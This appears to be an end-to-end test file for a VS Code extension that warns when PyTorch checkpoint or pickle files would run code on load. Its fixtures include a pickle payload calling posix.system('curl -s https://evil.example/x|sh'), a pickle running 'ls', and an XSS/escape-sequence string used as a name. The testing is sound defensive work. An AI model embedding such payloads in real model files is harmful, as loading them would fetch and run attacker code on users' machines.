import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import JSZip from 'jszip';
import { eventually, eventuallyHolds } from '../support/eventually';
import { misleading } from '../support/hostileNames';
import { writeTorchZip } from '../support/torchZip';
import { yolov7StateDict } from '../support/yolov7';
import { changeSettings, openWorkbench, pictures, workspaceFile } from './support/session';
import type { Workbench } from './support/workbench';

/** A value that runs a program when it is unpickled, as opcodes. */
const payload = Buffer.from(
  'cposix\nsystem\n(X\x21\x00\x00\x00curl -s https://evil.example/x|shtR',
  'latin1',
);

describe('What a file would do when it is loaded', () => {
  let workbench: Workbench;
  before(async () => {
    const [first, ...rest] = yolov7StateDict();
    assert.ok(first);
    writeTorchZip(workspaceFile('stranger.pth'), [first, ...rest], [['epoch_hook', payload]]);
    writeFileSync(workspaceFile('project.pkl'), 'cmodels.yolo\nModel\n)\x81.', 'latin1');
    workbench = await openWorkbench();
  });
  after(() => workbench.close());
  afterEach(() => workbench.closeEditors());

  it('is said in one sentence of a plain state_dict, without a banner', async () => {
    const editor = await workbench.openCheckpoint('yolov7_weights.pth');
    await eventuallyHolds(async () =>
      assert.match(
        await editor.safetyLine.innerText(),
        /^Only torch’s own types\. torch\.load\(weights_only=True\) of 2\.\d+ accepts it\.$/,
      ),
    );
    assert.equal(await editor.banner.count(), 0);
  });

  it('is said first of a dangerous file, which opens all the same', async () => {
    const editor = await workbench.openCheckpoint('stranger.pth');
    const banner = editor.frame.locator('.banner.danger');
    await banner.waitFor();
    assert.equal(await banner.getAttribute('role'), 'alert');
    assert.match(await banner.innerText(), /^Do not load this file/);
    await eventuallyHolds(async () =>
      assert.match(
        await editor.safetyLine.innerText(),
        /^Would call posix\.system\('curl -s https:\/\/evil\.example\/x\|sh'\) on load/,
      ),
    );
    assert.ok((await editor.names()).includes('backbone'));
    const header = await editor.header.boundingBox();
    const place = await banner.boundingBox();
    assert.ok(place && header && place.y < header.y, 'the banner stands first');
  });

  it('is listed behind the sentence, and leads to the disassembly and back', async () => {
    const editor = await workbench.openCheckpoint('stranger.pth');
    await editor.safetyLine.getByRole('button').click();
    const view = editor.safetyView;
    await view.waitFor();
    assert.equal(await editor.grid.isVisible(), false);
    const call = view.locator('.safety-entry').filter({ hasText: 'posix.system(' });
    assert.match(await call.innerText(), /dangerous[\s\S]*Can run programs[\s\S]*REDUCE[\s\S]*data\.pkl @ /);
    assert.match(await view.innerText(), /What it imports[\s\S]*torch\._utils\._rebuild_tensor_v2/);
    assert.match(await view.innerText(), /torch [\d.–]+\s+refuses it/);
    await call.locator('.link').click();
    await workbench.textEditor.waitFor();
    const line = workbench.page.locator('.view-line').filter({ hasText: /REDUCE\s+calls/ });
    await line.filter({ hasText: 'posix.system' }).waitFor();
    const lens = workbench.page
      .locator('.codelens-decoration a')
      .filter({ hasText: 'Would call posix.system' });
    await lens.first().click();
    const revealed = view.locator('.safety-entry.revealed');
    await eventuallyHolds(async () => assert.match(await revealed.innerText(), /posix\.system\(/));
    await eventually(() => revealed.evaluate((entry) => entry === document.activeElement), true);
  });

  it('is reached and left with keys, and said to screen readers', async () => {
    const editor = await workbench.openCheckpoint('project.pkl');
    await eventuallyHolds(async () =>
      assert.match(
        await editor.safetyLine.innerText(),
        /^Builds a class that no list knows: models\.yolo\.Model\./,
      ),
    );
    await workbench.runCommand('Graftlens: Show or Hide Safety View');
    await editor.safetyView.waitFor();
    assert.equal(
      await editor.safetyView.getAttribute('aria-label'),
      'What the file would do when it is loaded',
    );
    await eventually(() => editor.safetyView.evaluate((view) => view === document.activeElement), true);
    const pressed = () =>
      editor.frame
        .locator('.segment')
        .evaluateAll((all) => all.map((one) => one.getAttribute('aria-pressed')));
    assert.deepEqual(await pressed(), ['false', 'false', 'true']);
    await workbench.page.keyboard.press('Tab');
    assert.equal(
      await editor.frame.locator(':focus').evaluate((focused) => focused.closest('.safety-view') !== null),
      true,
    );
    await workbench.runCommand('Graftlens: Show or Hide Safety View');
    await editor.grid.waitFor();
    assert.deepEqual(await pressed(), ['true', 'false', 'false']);
  });

  it('is said of a file that cannot be shown, too', async () => {
    const zip = new JSZip().file('archive/other.pkl', "cposix\nsystem\n(S'ls'\ntR.");
    writeFileSync(workspaceFile('renamed.pth'), await zip.generateAsync({ type: 'nodebuffer' }));
    await workbench.clickFile('renamed.pth');
    const editor = workbench.editor();
    await editor.failure.waitFor();
    const banner = editor.frame.locator('.banner.danger');
    await banner.getByRole('button').click();
    await eventuallyHolds(async () =>
      assert.match(await editor.safetyView.innerText(), /posix\.system\('ls'\)/),
    );
    await editor.failure.waitFor({ state: 'hidden' });
    await banner.getByRole('button').click();
    await editor.failure.waitFor();
  });

  it('is mere text, whatever the names in the file', async () => {
    const name = '<img src=x onerror=console[`error`](1)>\x1b[31m\u202e';
    const opcodes = `c${name}\nsystem\n(S'\\x1b[0m<b>${'a'.repeat(2000)}'\ntR.`;
    writeFileSync(workspaceFile('trick.pkl'), Buffer.concat([Buffer.from([0x80, 2]), Buffer.from(opcodes)]));
    const editor = await workbench.openCheckpoint('trick.pkl');
    await editor.button('Safety').click();
    const entry = editor.safetyView.locator('.safety-entry').first();
    await eventuallyHolds(async () =>
      assert.match(await entry.innerText(), /<img src=x[^\n]*\\x1b\[31m\\u202e/),
    );
    assert.equal(
      await editor.frame.locator('main img, .safety-view img, .safety-view b, .header img').count(),
      0,
    );
    const shown = await editor.frame.locator('body').evaluate((body) => (body as HTMLElement).innerText);
    assert.doesNotMatch(shown, misleading);
  });

  it('is there again after a reload of the window', async () => {
    const editor = await workbench.openCheckpoint('stranger.pth');
    await editor.button('Safety').click();
    await editor.safetyView.locator('.safety-entry').first().waitFor();
    await workbench.reload();
    const again = workbench.editor();
    await again.safetyView.locator('.safety-entry').first().waitFor({ timeout: 40_000 });
    assert.equal(await again.grid.isVisible(), false);
    await again.button('Tree').click();
    await again.grid.waitFor();
  });

  for (const theme of ['Default High Contrast', 'Default High Contrast Light']) {
    it(`tells tiers apart in ${theme}`, async () => {
      changeSettings({ 'workbench.colorTheme': theme });
      try {
        const editor = await workbench.openCheckpoint('stranger.pth');
        await editor.button('Safety').click();
        const tier = editor.safetyView.locator('.tier').first();
        await eventually(() => editor.frame.locator('body.vscode-high-contrast').count(), 1);
        assert.equal(await tier.innerText(), 'dangerous');
        assert.equal(await tier.evaluate((mark) => getComputedStyle(mark).borderTopWidth), '2px');
        await workbench.page.screenshot({
          path: join(pictures.failures, '..', `safety-${theme.length}.png`),
        });
      } finally {
        changeSettings({});
      }
    });
  }

  for (const [name, theme] of Object.entries({
    dark: 'Default Dark Modern',
    light: 'Default Light Modern',
  })) {
    it(`is a picture of the README, ${name}`, async () => {
      mkdirSync(pictures.readme, { recursive: true });
      changeSettings({ 'workbench.colorTheme': theme });
      try {
        const editor = await workbench.openCheckpoint('stranger.pth');
        await workbench.runCommand('View: Close Primary Side Bar');
        await editor.button('Safety').click();
        await editor.safetyView.locator('.safety-entry').first().waitFor();
        await workbench.page.mouse.move(640, 4);
        await workbench.page.waitForTimeout(500);
        const path = join(pictures.readme, `safety-${name}.png`);
        await workbench.page.screenshot({ path, animations: 'disabled', caret: 'hide' });
        assert.ok(readFileSync(path).length > 20_000);
      } finally {
        changeSettings({});
        await workbench.runCommand('View: Show Explorer');
      }
    });
  }
});
